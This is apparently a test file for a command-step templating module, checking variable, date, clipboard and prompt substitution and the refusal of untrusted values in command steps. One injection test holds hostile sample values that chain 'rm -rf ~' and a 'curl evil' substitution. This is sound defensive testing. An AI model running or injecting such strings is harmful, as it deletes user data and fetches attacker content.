@@ -0,0 +1,98 @@
+import type { Step } from "../types/protocol";
+import {
+  TEMPLATE_ERRORS,
+  collectPromptLabels,
+  findTemplateIssue,
+  parseTemplateVariables,
+  resolveStepTemplates,
+  usesClipboard,
+  type TemplateContext,
+} from "./stepTemplate";
+import {
+  MAX_TEXT_STEP_LENGTH,
+  untrustedCommandPlaceholderError,
+  validateStep,
+} from "./validateStep";
+
+const CONTEXT: TemplateContext = {
+  now: new Date(2026, 2, 7, 9, 5, 3),
+  clipboard: "copied",
+  variables: { email: "dev@example.com" },
+  prompts: { "Branch name": "feature/login" },
+};
+
+describe("stepTemplate", () => {
+  it("resolves built-ins, variables and prompts in text and command steps only", () => {
+    const steps: Step[] = [
+      { type: "text", value: "{{email}} on {{date}} at {{ date:HH:mm:ss }}: {{clipboard}}" },
+      { type: "command", command: "git log --author={{email}} > {{date}}.log" },
+      { type: "text", value: "git checkout -b {{prompt:Branch name}}" },
+      { type: "key", key: "{{email}}" },
+      { type: "text", value: "const x = { a: 1 }; {{ }}" },
+    ];
+
+    expect(resolveStepTemplates(steps, CONTEXT)).toEqual([
+      { type: "text", value: "dev@example.com on 2026-03-07 at 09:05:03: copied" },
+      { type: "command", command: "git log --author=dev@example.com > 2026-03-07.log" },
+      { type: "text", value: "git checkout -b feature/login" },
+      { type: "key", key: "{{email}}" },
+      { type: "text", value: "const x = { a: 1 }; {{ }}" },
+    ]);
+    expect(collectPromptLabels([...steps, ...steps])).toEqual(["Branch name"]);
+    expect(usesClipboard(steps)).toBe(true);
+  });
+
+  it("never substitutes clipboard or prompt values into command steps", () => {
+    const injection = { ...CONTEXT, clipboard: "notes; rm -rf ~ && $(curl evil)" };
+
+    expect(() =>
+      resolveStepTemplates([{ type: "command", command: "cat {{clipboard}}" }], injection),
+    ).toThrow(untrustedCommandPlaceholderError(0));
+    expect(() =>
+      resolveStepTemplates(
+        [
+          { type: "text", value: "{{clipboard}}" },
+          { type: "command", command: "git checkout -b {{ prompt : Branch name }}" },
+        ],
+        { ...CONTEXT, prompts: { "Branch name": "x; rm -rf ~" } },
+      ),
+    ).toThrow(untrustedCommandPlaceholderError(1));
+    expect(validateStep({ type: "command", command: "echo {{clipboard}}" }, 2)).toBe(
+      untrustedCommandPlaceholderError(2),
+    );
+    expect(resolveStepTemplates([{ type: "text", value: "{{clipboard}}" }], injection)).toEqual([
+      { type: "text", value: "notes; rm -rf ~ && $(curl evil)" },
+    ]);
+  });
+
+  it("fails on missing values and on text that outgrows the step limit once resolved", () => {
+    expect(() =>
+      resolveStepTemplates([{ type: "text", value: "{{clipboard}}" }], {
+        ...CONTEXT,
+        clipboard: "",
+      }),
+    ).toThrow(TEMPLATE_ERRORS.CLIPBOARD_EMPTY);
+    expect(() =>
+      resolveStepTemplates([{ type: "text", value: "{{signature}}" }], CONTEXT),
+    ).toThrow("Step 0 uses unknown variable {{signature}}.");
+    expect(() =>
+      resolveStepTemplates(
+        [{ type: "text", value: "{{clipboard}}" }],
+        { ...CONTEXT, clipboard: "x".repeat(MAX_TEXT_STEP_LENGTH + 1) },
+      ),
+    ).toThrow(`Step 0 (text) exceeds ${MAX_TEXT_STEP_LENGTH} characters once resolved.`);
+  });
+
+  it("flags unknown variables and unlabeled prompts in the editor", () => {
+    expect(findTemplateIssue([{ type: "text", value: "{{email}}" }], ["email"])).toBeNull();
+    expect(findTemplateIssue([{ type: "command", command: "echo {{team}}" }], [])).toBe(
+      "Step 0 uses unknown variable {{team}}.",
+    );
+    expect(findTemplateIssue([{ type: "text", value: "{{prompt}}" }], [])).toBe(
+      "Step 0 has a {{prompt}} without a label, e.g. {{prompt:Branch name}}.",
+    );
+    expect(
+      parseTemplateVariables({ email: "dev@example.com", date: "shadowed", "1st": "x", n: 2 }),
+    ).toEqual({ email: "dev@example.com" });
+  });
+});